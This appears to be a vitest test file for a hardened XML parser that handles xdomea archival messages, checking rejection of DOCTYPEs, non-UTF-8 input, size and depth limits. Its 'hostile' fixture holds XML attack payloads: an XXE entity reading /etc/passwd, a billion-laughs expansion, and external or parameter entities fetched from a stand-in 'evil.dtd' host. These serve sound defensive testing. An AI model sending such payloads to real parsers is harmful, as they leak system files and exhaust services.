import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir } from '../../../test/helpers/temp-dir';
import { readMessage } from '../read/read-message';
import { validateMessageSchema } from '../validate/schema-validator';
import { checkSafeXmlBytes, checkSafeXmlFile, parseSafeXml, parseSafeXmlRoot } from './safe-xml';

const codeOf = (fn: () => unknown): string => {
  try {
    fn();
  } catch (err) {
    return (err as { code?: string }).code ?? `not an AppError: ${String(err)}`;
  }
  return 'no error';
};

const NS = 'urn:xoev-de:xdomea:schema:3.1.0';
const receipt = (prefix = '') =>
  `${prefix}<xdomea:Aussonderung.AussonderungEmpfangBestaetigen.0507 xmlns:xdomea="${NS}"><xdomea:Kopf/></xdomea:Aussonderung.AussonderungEmpfangBestaetigen.0507>`;

const hostile = {
  xxe: `<?xml version="1.0"?>
<!DOCTYPE x [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<xdomea:Aussonderung.Aussonderung.0503 xmlns:xdomea="${NS}"><xdomea:Kopf><xdomea:Hinweis>&secret;</xdomea:Hinweis></xdomea:Kopf></xdomea:Aussonderung.Aussonderung.0503>`,
  billionLaughs: `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`,
  plainDoctype: `<?xml version="1.0"?>\n<!DOCTYPE xdomea:Aussonderung.AussonderungEmpfangBestaetigen.0507>\n${receipt()}`,
  externalDtd: `<!DOCTYPE x SYSTEM "http://example.invalid/evil.dtd">${receipt()}`,
  parameterEntity: `<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://example.invalid/x"> %remote; ]>${receipt()}`,
};

describe('safe XML', () => {
  it.each(Object.entries(hostile))('refuses %s before parsing', (_name, xml) => {
    expect(codeOf(() => parseSafeXml(xml))).toBe('xdomea.doctype_forbidden');
    expect(codeOf(() => readMessage(xml))).toBe('xdomea.doctype_forbidden');
  });

  it('refuses the same attacks in the schema validator before libxml2 sees them', async () => {
    await expect(validateMessageSchema(hostile.xxe)).rejects.toMatchObject({
      code: 'xdomea.doctype_forbidden',
    });
    await expect(validateMessageSchema(hostile.billionLaughs)).rejects.toMatchObject({
      code: 'xdomea.doctype_forbidden',
    });
  });

  it('refuses a DOCTYPE hidden in UTF-16', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(hostile.xxe, 'utf16le')]);
    expect(codeOf(() => parseSafeXml(utf16))).toBe('xdomea.unsupported_encoding');
  });

  it('refuses encodings other than UTF-8 and invalid UTF-8 bytes', () => {
    expect(codeOf(() => parseSafeXml(`<?xml version="1.0" encoding="ISO-8859-1"?>${receipt()}`))).toBe(
      'xdomea.unsupported_encoding',
    );
    const broken = Buffer.concat([
      Buffer.from(receipt().slice(0, 40)),
      Buffer.from([0xc3, 0x28]),
      Buffer.from(receipt().slice(40)),
    ]);
    expect(codeOf(() => parseSafeXml(broken))).toBe('xdomea.unsupported_encoding');
  });

  it('refuses input beyond the size limit without parsing it', () => {
    const xml = receipt(`<?xml version="1.0"?>\n<!-- ${'x'.repeat(2000)} -->\n`);
    expect(codeOf(() => parseSafeXml(xml, { maxBytes: 1000, maxDepth: 10 }))).toBe('xdomea.too_large');
    expect(codeOf(() => parseSafeXml(xml, { maxBytes: 10_000, maxDepth: 10 }))).toBe('no error');
  });

  it('refuses nesting deeper than the limit', () => {
    const deep = `${'<a>'.repeat(50)}${'</a>'.repeat(50)}`;
    expect(codeOf(() => parseSafeXml(deep, { maxBytes: 10_000, maxDepth: 40 }))).toBe('xdomea.too_deep');
    expect(codeOf(() => parseSafeXml(deep, { maxBytes: 10_000, maxDepth: 60 }))).toBe('no error');
  });

  it('checks received bytes piece by piece: a declaration across a piece seam, bad UTF-8 late, the root', async () => {
    const filler = `<!--${'x'.repeat(1024 * 1024 - 12)}-->`;
    const seam = Buffer.from(`${filler}<!DOCTYPE x>${receipt()}`);
    expect(seam.indexOf('<!DOCTYPE')).toBeLessThan(1024 * 1024);
    expect(seam.indexOf('<!DOCTYPE') + 9).toBeGreaterThan(1024 * 1024);
    expect(codeOf(() => checkSafeXmlBytes(seam))).toBe('xdomea.doctype_forbidden');
    await expect(validateMessageSchema(seam)).rejects.toMatchObject({ code: 'xdomea.doctype_forbidden' });
    const late = Buffer.concat([Buffer.from(`${receipt()}${filler}${filler}`), Buffer.from([0xc3, 0x28])]);
    expect(codeOf(() => checkSafeXmlBytes(late))).toBe('xdomea.unsupported_encoding');
    expect(checkSafeXmlBytes(Buffer.from(`${receipt()}${filler}`)).name).toBe('Aussonderung.AussonderungEmpfangBestaetigen.0507');
    // Not well-formed after the root: the validator fails it with the reader's error and line.
    await expect(validateMessageSchema(Buffer.from(`${receipt()}\n<x>`))).rejects.toMatchObject({ code: 'xdomea.malformed' });
  });

  it('reports malformed XML with its line', () => {
    const xml = `<?xml version="1.0"?>\n<a>\n  <b>\n</a>`;
    try {
      parseSafeXml(xml);
      expect.fail('should not parse');
    } catch (err) {
      expect(err).toMatchObject({ code: 'xdomea.malformed', params: { line: 4 } });
    }
    expect(codeOf(() => parseSafeXml('<a>&undefined;</a>'))).toBe('xdomea.malformed');
    expect(codeOf(() => parseSafeXml('<p:a>unbound prefix</p:a>'))).toBe('xdomea.malformed');
  });

  it('builds a namespace-aware tree with text, CDATA and lines', () => {
    const root = parseSafeXml(
      `<?xml version="1.0" encoding="utf-8"?>\n<x:r xmlns:x="urn:test" a="1" x:b="2">\n  <x:t>A &amp; <![CDATA[<B>]]></x:t>\n  <code>c</code>\n</x:r>`,
    );
    expect(root).toMatchObject({ ns: 'urn:test', name: 'r', attributes: { a: '1' }, line: 2 });
    expect(root.children.map((c) => [c.ns, c.name, c.text, c.line])).toEqual([
      ['urn:test', 't', 'A & <B>', 3],
      ['', 'code', 'c', 4],
    ]);
  });

  it('keeps only the root when asked, after checking the whole document', () => {
    const root = parseSafeXmlRoot(`<x:r xmlns:x="urn:test" a="1"><x:t>A</x:t><x:t>B</x:t></x:r>`);
    expect(root).toMatchObject({ ns: 'urn:test', name: 'r', attributes: { a: '1' }, children: [] });
    // Problems after the root's start tag are still found: the whole input is parsed.
    expect(codeOf(() => parseSafeXmlRoot('<a>\n<b></a>'))).toBe('xdomea.malformed');
    const deep = `${'<a>'.repeat(50)}${'</a>'.repeat(50)}`;
    expect(codeOf(() => parseSafeXmlRoot(deep, { maxBytes: 10_000, maxDepth: 40 }))).toBe('xdomea.too_deep');
  });

  it('checks a file with few turns of a busy event loop (a receive keeps it busy)', async () => {
    // ~8 MB: 128 pieces of 64 KB. Read through libuv's pool, each piece waited for a turn of the loop.
    const dir = tempDir('eakte-safe-xml-');
    try {
      const file = path.join(dir.path, 'large.xml');
      writeFileSync(file, `${`<!--${'x'.repeat(64 * 1024)}-->\n`.repeat(128)}${receipt()}`);
      let turns = 0;
      let busy = true;
      const spin = () => {
        if (!busy) return;
        turns++;
        setImmediate(spin);
      };
      setImmediate(spin);
      const root = await checkSafeXmlFile(file).finally(() => (busy = false));
      expect(root.name).toBe('Aussonderung.AussonderungEmpfangBestaetigen.0507');
      expect(turns).toBeLessThan(8);
    } finally {
      dir.remove();
    }
  });
});
